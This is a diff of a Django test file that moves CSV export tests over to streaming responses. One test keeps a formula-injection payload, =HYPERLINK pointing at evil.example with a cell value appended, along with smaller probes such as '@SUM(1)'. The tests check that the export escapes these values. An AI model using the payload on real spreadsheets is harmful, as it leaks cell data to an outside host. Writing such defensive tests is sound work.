@@ -454,7 +454,7 @@ def test_export_is_safe_against_formula_injection(member_client, personas):
     team = personas["team"]
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     Actor.objects.create(team=team, name=evil, notes="@SUM(1)", position="-2+3")
-    csv_text = member_client.get(url(team, "export_csv")).content.decode("utf-8-sig")
+    csv_text = _body(member_client.get(url(team, "export_csv"))).decode("utf-8-sig")
     assert "'" + evil.replace('"', '""') in csv_text
     assert "'@SUM(1)" in csv_text and "'-2+3" in csv_text
 
@@ -472,7 +472,7 @@ def test_export_is_safe_against_formula_injection(member_client, personas):
 def test_export_has_german_headings_for_german_users(member_client, personas):
     team = personas["team"]
     Actor.objects.create(team=team, name="Ada")
-    text = member_client.get(url(team, "export_csv")).content.decode("utf-8-sig")
+    text = _body(member_client.get(url(team, "export_csv"))).decode("utf-8-sig")
     header = text.splitlines()[0]
     # German Excel expects semicolons; headings go through the German catalogue
     assert header.startswith("Name;") and ";E-Mail-Adresse;" in header
@@ -482,7 +482,7 @@ def test_export_respects_the_list_filter(member_client, personas):
     team = personas["team"]
     Actor.objects.create(team=team, name="Ada", kind="person")
     Actor.objects.create(team=team, name="Verein", kind="organisation")
-    text = member_client.get(url(team, "export_csv") + "?kind=organisation").content
+    text = _body(member_client.get(url(team, "export_csv") + "?kind=organisation"))
     text = text.decode("utf-8-sig")
     assert "Verein" in text and "Ada" not in text
 
@@ -705,3 +705,9 @@ def test_formulas_and_lost_letters_are_imported_as_text_with_a_warning(member_cl
     names = set(team.actors.values_list("name", flat=True))
     assert names == {"=Stadtwerke", "Gro?e Kreisstadt", "Ada"}
     assert team.actors.get(name="=Stadtwerke").notes == "=1+1"
+
+
+def _body(response) -> bytes:
+    """A CSV export streams (a large map is never one string in memory)."""
+    assert response.streaming
+    return b"".join(response.streaming_content)
